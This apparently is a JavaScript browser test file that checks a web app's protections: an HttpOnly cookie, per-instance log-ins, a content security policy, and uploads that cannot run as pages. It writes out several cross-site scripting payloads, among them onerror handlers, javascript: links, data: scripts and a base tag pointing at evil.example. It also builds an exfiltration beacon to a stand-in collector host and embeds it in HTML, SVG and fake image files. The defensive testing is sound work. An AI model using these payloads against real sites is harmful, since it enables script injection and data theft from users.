// What holds even when something hostile gets into the page or into the files: the cookie is out of scripts' reach, no
// script runs but the page's own, and an uploaded file is never a page of this house.

import assert from 'node:assert/strict';

import { story } from './lib/story.mjs';
import { until } from './lib/waiting.mjs';

// Everything a page's own scripts could read of the user's log-in.
function readableBy(page) {
  return page.evaluate(() =>
    JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }, window.name]),
  );
}

story('scripts see nothing of the cookie', async (stage) => {
  const home = await stage.instance();
  const alice = await home.addUser('alice');
  const { page, context } = await stage.open(home, { as: alice });
  const [cookie, ...more] = await context.cookies();
  assert.deepEqual(more, []);
  assert.match(cookie.name, /^kith-[0-9a-f]{8}$/);
  assert.equal(cookie.httpOnly, true);
  assert.equal(cookie.sameSite, 'Strict');
  assert.equal(cookie.path, '/');
  assert.ok(cookie.expires > 0 && cookie.expires <= Date.now() / 1000 + 2 * 60 * 60 + 1, `${cookie.expires}`);
  assert.equal(await page.evaluate(() => document.cookie), '');
  assert.ok(!(await readableBy(page)).includes(cookie.value));
});

story('two instances on one host keep their log-ins apart', async (stage) => {
  const left = await stage.instance();
  const right = await stage.instance();
  const { context } = await stage.open(left, { as: await left.addUser('alice'), path: null });
  const bob = await right.addUser('bob');
  const data = { email: bob.email, password: bob.password };
  assert.equal((await context.request.post(`${right.url}api/session`, { data })).status(), 201);
  for (const [instance, handle] of [
    [left, 'alice'],
    [right, 'bob'],
  ]) {
    const answer = await context.request.get(`${instance.url}api/session`);
    assert.equal((await answer.json()).user.handle, handle);
  }
});

// Ways to make a document run a script that was put into it; each would set `hacked`.
function inject() {
  const attempts = {
    'a script element': () => {
      const script = document.createElement('script');
      script.append('window.hacked = "a script element"');
      document.body.append(script);
    },
    'an attribute': () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.hacked = "an attribute"');
      image.setAttribute('src', 'data:,');
      document.body.append(image);
    },
    markup: () =>
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hacked = \'markup\'">'),
    eval: () => (0, eval)('window.hacked = "eval"'),
    'a timer': () => setTimeout('window.hacked = "a timer"'),
    'a javascript: link': () => {
      const link = document.createElement('a');
      link.setAttribute('href', 'javascript:void (window.hacked = "a link")');
      document.body.append(link);
      link.click();
    },
    'a data: script': () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'data:text/javascript,window.hacked="data"');
      document.body.append(script);
    },
    'a frame of its own': () => {
      const frame = document.createElement('iframe');
      frame.setAttribute('srcdoc', '<script>parent.hacked = "a frame"</script>');
      document.body.append(frame);
    },
    'a base address': () => {
      const base = document.createElement('base');
      base.setAttribute('href', 'http://evil.example/');
      document.head.prepend(base);
      if (document.baseURI.includes('evil.example')) window.hacked = 'a base address';
    },
  };
  window.attempts = attempts;
  return Object.keys(attempts);
}

// Makes one attempt and hands back what it set, once the browser has been to the server and painted twice: that is
// enough for each attempt to work where nothing stops it.
function attempt(page, name) {
  return page.evaluate(async (which) => {
    delete window.hacked;
    const run = () => {
      try {
        window.attempts[which]();
      } catch {
        // Trusted Types say no by throwing.
      }
    };
    // In a task of its own: what developer tools evaluate may use eval() whatever the policy says.
    await new Promise((done) => setTimeout(() => done(run())));
    await fetch(location.href, { cache: 'no-store' }).then((answer) => answer.text());
    await new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted)));
    return window.hacked ?? null;
  }, name);
}

story("no script runs but the page's own", async (stage) => {
  const home = await stage.instance();
  const alice = await home.addUser('alice');
  const site = await stage.website({ '/': '<!doctype html><title>A page without protection</title>' });
  const careless = await stage.open(site.url);
  const loggedIn = await stage.open(home, { as: alice });
  const invite = await stage.open(home, { path: 'invite' });
  for (const name of await careless.page.evaluate(inject)) {
    assert.notEqual(await attempt(careless.page, name), null, `${name} does nothing even where it could`);
    await careless.page.goto(site.url);
    await careless.page.evaluate(inject);
  }
  for (const { page, guard } of [loggedIn, invite]) {
    for (const name of await page.evaluate(inject)) {
      assert.equal(await attempt(page, name), null, `${name} in ${page.url()}`);
    }
    const found = await guard.takeProblems();
    assert.ok(found.filter((problem) => problem.startsWith('csp: ')).length >= 5, found.join('\n'));
  }
  await careless.guard.takeProblems();
});

const CALL = "new Image().src = 'http://collector.example:PORT/stolen'; document.title = 'hacked'";
const HOSTILE_FILES = {
  'page.html': `<!doctype html><title>p</title><script>${CALL}</script>`,
  'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>${CALL.replace('document.title', 'window.name')}</script></svg>`,
  'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${CALL}</script></body></html>`,
  'feed.xml': `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${CALL}</script></body></html>`,
  'photo.jpg': `<!doctype html><title>p</title><script>${CALL}</script>`,
  'photo.png': `<svg xmlns="http://www.w3.org/2000/svg"><script>${CALL}</script></svg>`,
  'no-ending': `<!doctype html><title>p</title><script>${CALL}</script>`,
};

story('a hostile file runs nothing when it is opened', async (stage) => {
  const home = await stage.instance();
  const alice = await home.addUser('alice');
  const html = (body) => ({ headers: { 'content-type': 'text/html' }, body });
  const collector = await stage.website({ '/stolen': { status: 204 } });
  const armed = (text) => text.replaceAll('PORT', collector.port);
  const site = await stage.website({ '/page.html': html(armed(HOSTILE_FILES['page.html'])) });
  const { page, context, guard } = await stage.open(home, { as: alice });
  const stolen = () => collector.requests.filter((asked) => asked.path === '/stolen').length;

  // Served by somebody careless, the same file does its work.
  const careless = await context.newPage();
  await careless.goto(`${site.url}page.html`);
  await until(stolen, 'the script of a page served carelessly');
  collector.requests.length = 0;

  for (const [name, text] of Object.entries(HOSTILE_FILES)) {
    const types = name === 'photo.jpg' ? ['image/jpeg', 'text/html'] : [null];
    for (const type of types) {
      const asset = await alice.upload(name, armed(text), type ? { 'content-type': type } : {});
      const addresses = [`api/assets/${asset.id}/content`, `files/${name}`, `files?filename=${name}`];
      for (const address of addresses) {
        await openDirectly(page, home.url + address);
        assert.notEqual(await page.title(), 'hacked', `${address} of ${name}`);
      }
    }
  }
  // Whatever they sent would have come before this.
  await careless.goto(`${collector.url}stolen`).catch(() => {});
  assert.deepEqual(
    collector.requests.map((asked) => asked.headers.host),
    [new URL(collector.url).host],
  );
  await guard.takeProblems();
});

// Follows an address as if typed; a download instead of a page is fine.
async function openDirectly(page, address) {
  const answered = page.waitForResponse(address);
  await page.goto(address).catch((error) => {
    assert.match(error.message, /Download is starting|ERR_ABORTED/);
  });
  const answer = await answered;
  assert.equal(answer.status(), 200, address);
}
